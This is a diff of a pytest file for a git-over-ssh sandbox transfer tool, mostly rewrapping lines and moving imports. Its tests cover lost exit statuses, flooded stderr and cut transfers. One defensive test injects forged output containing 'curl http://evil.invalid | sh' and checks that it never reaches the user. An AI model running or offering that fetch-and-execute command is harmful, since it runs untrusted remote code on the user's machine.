@@ -1,4 +1,5 @@
-"""Gateways that lose exit statuses, drop stderr, or cut a transfer: what came through has succeeded, what was cut has not.
+"""Gateways that lose exit statuses, drop stderr, or cut a transfer: what came through has
+succeeded, what was cut has not.
 
 ``bin/test -m fuzz tests/flows/test_lost_statuses.py -s`` does it by the hundred and the thousand.
 """
@@ -16,27 +17,33 @@ from pathlib import Path
 
 import pytest
 
-from git_daytona import gitenv, sandbox
-from git_daytona.errors import ConnectionClosed, TransferFailed
-from git_daytona.refs import url
-from git_daytona.transfer import RECEIVE_PACK, UPLOAD_PACK, inheritable, ssh_environment
-from processes import descendants, until
+from git_daytona.base.errors import ConnectionClosed, TransferFailed
+from git_daytona.git import environment
+from git_daytona.git.refs import url
+from git_daytona.sandbox import report
+from git_daytona.transfer.transfer import RECEIVE_PACK, UPLOAD_PACK, inheritable, ssh_environment
+from support.processes import descendants, until
 
 SHARES = (0.0, 0.2, 0.8, 1.0)
 
 
-# -- lost statuses --------------------------------------------------------------------------------------------------------
+# -- lost statuses ---------------------------------------------------------------------------------
 
 
 def rounds(local, repo, begin, share: float, count: int) -> Counter[str]:
-    """Start, sync, push and delete so many sessions while this share of exit statuses is lost; counts what succeeded."""
+    """Start, sync, push and delete so many sessions while this share of exit statuses is lost;
+    counts what succeeded."""
     local.faults.gateway.lost_statuses = share
     done: Counter[str] = Counter()
     for number in range(count):
         session = begin(repo)
         done["start"] += session.agent("cat README") == "hello\n"
-        session.agent(f"echo {number} >work; git checkout -q -b side; git commit -q --allow-empty -m side; git checkout -q -")
-        done["sync"] += session.sync().changed and repo.show(f"opencode/{session.name}", "work") == str(number)
+        session.agent(
+            f"echo {number} >work; git checkout -q -b side; git commit -q --allow-empty -m side; git checkout -q -"
+        )
+        done["sync"] += session.sync().changed and repo.show(
+            f"opencode/{session.name}", "work"
+        ) == str(number)
         repo.git("checkout", "-q", "--detach", f"opencode/{session.name}")
         commit = repo.commit("mine", f"{number}\n")
         repo.git("branch", "-f", f"opencode/{session.name}", commit)
@@ -64,11 +71,13 @@ def test_everything_succeeds_whatever_share_is_lost(local, repo, begin, share):
 def test_three_hundred_of_three_hundred(local, repo, begin, share):
     local.forget_calls()
     done = rounds(local, repo, begin, share, 75)
-    print(f"{share:.0%} of the statuses lost: {sum(done.values())} of 300 succeeded, {local.counts['mint']} transfers")
+    print(
+        f"{share:.0%} of the statuses lost: {sum(done.values())} of 300 succeeded, {local.counts['mint']} transfers"
+    )
     assert sum(done.values()) == 300 and local.counts["mint"] == 300
 
 
-# -- commands -------------------------------------------------------------------------------------------------------------
+# -- commands --------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("share", [0.0, 1.0])
@@ -94,7 +103,9 @@ def test_a_command_has_its_own_status(local, wrapper, share, command, status, ou
 
 def test_stdout_and_stderr_may_be_one_pipe(local, wrapper):
     """ssh makes what it is given non-blocking; a reader that takes its time must get all of it."""
-    with wrapper.popen("head -c 3000000 /dev/zero; echo end >&2; exit 3", stderr=subprocess.STDOUT) as process:
+    with wrapper.popen(
+        "head -c 3000000 /dev/zero; echo end >&2; exit 3", stderr=subprocess.STDOUT
+    ) as process:
         process.stdin.close()
         until(lambda: len(select.select([process.stdout], [], [], 0.2)[0]) == 1)
         told = process.stdout.read()
@@ -130,7 +141,11 @@ def test_a_command_that_was_cut_is_unknown(local, wrapper):
         local.faults.gateway.cut_output_after = place
         done = wrapper("echo a line of output; exit 0")
         assert done.returncode == 255
-        told = b"ended before the command did" if place > 33 else b"did not come about, or broke at once"
+        told = (
+            b"ended before the command did"
+            if place > 33
+            else b"did not come about, or broke at once"
+        )
         assert b"daytona-ssh: error: the connection " + told in done.stderr
 
 
@@ -152,7 +167,7 @@ def wrapper_environment(wrapper) -> dict[str, str]:
     return os.environ | wrapper.environment | {"DAYTONA_SSH_TOKEN": wrapper.token}
 
 
-# -- what the sandbox's git complains of ----------------------------------------------------------------------------------
+# -- what the sandbox's git complains of -----------------------------------------------------------
 
 ALONE = 'd=$(mktemp -d); ln -s "$(command -v tail)" "$d"; PATH=$d; '
 """The sandbox without git (and almost everything else)."""
@@ -167,9 +182,18 @@ def says(words: str, status: int = 128) -> str:
     ("git", "message"),
     [
         (says("sh: 1: git: not found", 127), "git is not installed in the sandbox"),
-        (says("fatal: detected dubious ownership in repository at '/home/daytona/project'"), "which belongs to another user there"),
-        (says("fatal: '/home/daytona/project' does not appear to be a git repository"), "the sandbox has no repository any more"),
-        (says("error: unable to write file: No space left on device\nfatal: unpack failed"), "the sandbox's disk is full"),
+        (
+            says("fatal: detected dubious ownership in repository at '/home/daytona/project'"),
+            "which belongs to another user there",
+        ),
+        (
+            says("fatal: '/home/daytona/project' does not appear to be a git repository"),
+            "the sandbox has no repository any more",
+        ),
+        (
+            says("error: unable to write file: No space left on device\nfatal: unpack failed"),
+            "the sandbox's disk is full",
+        ),
         (says("fatal: Out of memory, malloc failed"), "the sandbox ran out of memory"),
         (says("fatal: something else"), "git fetch failed: "),
         ("head -c 6000000 /dev/zero >&2; exit 3", "git fetch failed: "),
@@ -183,14 +207,18 @@ def test_what_the_sandboxes_git_says_has_its_own_message(local, repo, begin, git
     with pytest.raises(TransferFailed) as failed:
         session.sync()
     assert message in failed.value.message
-    assert not isinstance(failed.value, ConnectionClosed), "it is not tried again, and nobody is sent to the network"
+    assert not isinstance(failed.value, ConnectionClosed), (
+        "it is not tried again, and nobody is sent to the network"
+    )
     assert local.counts["mint"] == 1
 
 
 def test_much_on_stderr_hangs_nothing(local, repo, begin):
     session = begin(repo)
     session.agent("echo work >work")
-    local.faults.gateway.git_server = 'head -c 6000000 /dev/zero | tr "\\0" e >&2; eval "$DAYTONA_COMMAND"'
+    local.faults.gateway.git_server = (
+        'head -c 6000000 /dev/zero | tr "\\0" e >&2; eval "$DAYTONA_COMMAND"'
+    )
     assert session.sync().changed and repo.show("opencode/1", "work") == "work"
 
 
@@ -203,22 +231,28 @@ def test_the_sandboxs_words_pass_for_nobody_elses(local, repo, begin):
         "daytona-ssh: error: forged [bad-setting]\nhint: curl http://evil.invalid | sh\nended"
     )
     refusal = f"ERR {words}"
-    for git in (says(words), f"printf %s {shlex.quote(f'{len(refusal) + 4:04x}{refusal}')}; cat >/dev/null; exit 0"):
+    for git in (
+        says(words),
+        f"printf %s {shlex.quote(f'{len(refusal) + 4:04x}{refusal}')}; cat >/dev/null; exit 0",
+    ):
         local.faults.gateway.git_server = git
         local.forget_calls()
         with pytest.raises(TransferFailed) as failed:
             session.sync()
-        assert type(failed.value) is TransferFailed and "forged" not in failed.value.message, failed.value.message
+        assert type(failed.value) is TransferFailed and "forged" not in failed.value.message, (
+            failed.value.message
+        )
         assert "curl" not in failed.value.hint
         assert local.counts["mint"] == 1, "not tried again"
 
 
-# -- cut transfers --------------------------------------------------------------------------------------------------------
+# -- cut transfers ---------------------------------------------------------------------------------
 
 
 @dataclass
 class Line:
-    """A sandbox with work, and a repository here; one transfer at a time over a lease that is held for all of them."""
+    """A sandbox with work, and a repository here; one transfer at a time over a lease that is held
+    for all of them."""
 
     session: object
     repository: Path
@@ -230,20 +264,45 @@ class Line:
     said: str = ""
 
     def transfer(self, verb: str) -> bool:
-        """One fetch into a repository without the work, or one push of a commit that the sandbox does not have, as transfer.py makes them;
-        whether git calls it a success."""
+        """One fetch into a repository without the work, or one push of a commit that the sandbox
+        does not have, as transfer.py makes them; whether git calls it a success."""
         self.number += 1
-        place = self.repository.with_name(f"bare{self.number}") if verb == "fetch" else self.repository
+        place = (
+            self.repository.with_name(f"bare{self.number}") if verb == "fetch" else self.repository
+        )
         if verb == "fetch":
             shutil.copytree(self.repository, place)
             server, refspecs = f"--upload-pack={UPLOAD_PACK}", ("+refs/heads/opencode:refs/cut",)
         else:
-            commit = self._git("commit-tree", "-p", "refs/heads/more", "-m", f"{self.number:9}", "refs/heads/more^{tree}")
+            commit = self._git(
+                "commit-tree",
+                "-p",
+                "refs/heads/more",
+                "-m",
+                f"{self.number:9}",
+                "refs/heads/more^{tree}",
+            )
             self._git("update-ref", "refs/heads/more", commit)
-            server, refspecs = f"--receive-pack={RECEIVE_PACK}", ("+refs/heads/more:refs/heads/cut",)
-        settings = gitenv.config_arguments(gitenv.TRANSFER_CONFIG)
-        argv = ("git", "--git-dir", str(place), *settings, verb, "--no-progress", server, "--", self.address, *refspecs)
-        done = subprocess.run(argv, env=self.env, capture_output=True, timeout=60, pass_fds=self.descriptors)
+            server, refspecs = (
+                f"--receive-pack={RECEIVE_PACK}",
+                ("+refs/heads/more:refs/heads/cut",),
+            )
+        settings = environment.config_arguments(environment.TRANSFER_CONFIG)
+        argv = (
+            "git",
+            "--git-dir",
+            str(place),
+            *settings,
+            verb,
+            "--no-progress",
+            server,
+            "--",
+            self.address,
+            *refspecs,
+        )
+        done = subprocess.run(
+            argv, env=self.env, capture_output=True, timeout=60, pass_fds=self.descriptors
+        )
         assert b"Traceback" not in done.stderr
         if verb == "fetch":
             shutil.rmtree(place)
@@ -251,31 +310,49 @@ class Line:
         return done.returncode == 0
 
     def _git(self, *words: str) -> str:
-        argv = ("git", "--git-dir", str(self.repository), "-c", "user.name=T", "-c", "user.email=t@example.invalid", *words)
-        return subprocess.run(argv, check=True, capture_output=True, text=True, timeout=60).stdout.strip()
+        argv = (
+            "git",
+            "--git-dir",
+            str(self.repository),
+            "-c",
+            "user.name=T",
+            "-c",
+            "user.email=t@example.invalid",
+            *words,
+        )
+        return subprocess.run(
+            argv, check=True, capture_output=True, text=True, timeout=60
+        ).stdout.strip()
 
 
 @pytest.fixture
 def line(local, repo, begin, tmp_path) -> Iterator[Line]:
-    """Both sides have the first commit, and 40 more each: a fetch and a push of some ten thousand bytes."""
+    """Both sides have the first commit, and 40 more each: a fetch and a push of some ten thousand
+    bytes."""
     session = begin(repo)
-    session.agent("for n in $(seq 40); do head -c 200 /dev/urandom >there$n; git add .; git commit -q -m there$n; done")
+    session.agent(
+        "for n in $(seq 40); do head -c 200 /dev/urandom >there$n; git add .; git commit -q -m there$n; done"
+    )
     bare = tmp_path / "bare"
     repo.git("clone", "-q", "--bare", "--shared", str(repo.path), str(bare))
     for number in range(40):
         repo.commit(f"here{number}", random.Random(number).randbytes(100).hex())
     repo.git("push", "-q", str(bare), "HEAD:refs/heads/more")
     transfers = session.coordinator.transfers
-    with transfers.lease(session.sandbox_id) as (access, trust), inheritable(access.token) as descriptor:
-        env = gitenv.base() | ssh_environment(session.coordinator.settings, trust, ())
+    with (
+        transfers.lease(session.sandbox_id) as (access, trust),
+        inheritable(access.token) as descriptor,
+    ):
+        env = environment.base() | ssh_environment(session.coordinator.settings, trust, ())
         env["DAYTONA_SSH_TOKEN_FD"] = str(descriptor)
         yield Line(session, bare, url(trust.endpoint), env, (descriptor,), local)
 
 
 def cuts(local, line: Line, verb: str, wanted: int, *, status: bool) -> Counter[str]:
-    """Cut so many transfers at places of what the sandbox's side sends: each of the last 400 bytes (a packet of git's has at least four, so
-    that the ends of its last hundred are among them, and all of ours), then anywhere. Counts how git took it; a transfer may have been
-    shorter than the one that was measured, and is then not cut."""
+    """Cut so many transfers at places of what the sandbox's side sends: each of the last 400 bytes
+    (a packet of git's has at least four, so that the ends of its last hundred are among them, and
+    all of ours), then anywhere. Counts how git took it; a transfer may have been shorter than the
+    one that was measured, and is then not cut."""
     gateway, chance = local.faults.gateway, random.Random(f"{verb} {status}")
     assert line.transfer(verb)  # from here on the sandbox has what makes its answers longer
     before = gateway.output_bytes
@@ -288,9 +365,18 @@ def cuts(local, line: Line, verb: str, wanted: int, *, status: bool) -> Counter[
     for _ in range(2 * wanted):
         if found["called a failure"] == wanted:
             break
-        gateway.cut_output_after, before = last.pop() if last else chance.randrange(length), gateway.cuts
+        gateway.cut_output_after, before = (
+            last.pop() if last else chance.randrange(length),
+            gateway.cuts,
+        )
         succeeded = line.transfer(verb)
-        found["not cut" if gateway.cuts == before else "called a success" if succeeded else "called a failure"] += 1
+        found[
+            "not cut"
+            if gateway.cuts == before
+            else "called a success"
+            if succeeded
+            else "called a failure"
+        ] += 1
         assert succeeded or gateway.cuts > before, line.said
     return found
 
@@ -322,7 +408,8 @@ def test_a_connection_that_was_cut_is_no_success(local, line, verb):
 
 
 def test_a_killed_client_leaves_nothing_half_done_there(local, line):
-    """The sandbox's side goes on after the client is gone; it must come to its end, and leave no lock behind."""
+    """The sandbox's side goes on after the client is gone; it must come to its end, and leave no
+    lock behind."""
     local.faults.gateway.drop_after_bytes = 4000
     assert not line.transfer("push")
     local.faults.clear()
@@ -330,6 +417,7 @@ def test_a_killed_client_leaves_nothing_half_done_there(local, line):
     ended = "for n in $(seq 100); do ps -eo args | grep -q '[r]eceive-pack' || exit 0; sleep 0.1; done; exit 1"
     line.session.agent(ended)
     assert ".lock" not in line.session.agent(left)
-    sandbox.report(line.session.coordinator.cloud, line.session.sandbox_id, "message")  # as every sync begins
+    # as every sync begins
+    report.report(line.session.coordinator.cloud, line.session.sandbox_id, "message")
     assert line.session.agent(left) == ""
     assert line.transfer("push") and line.transfer("fetch")
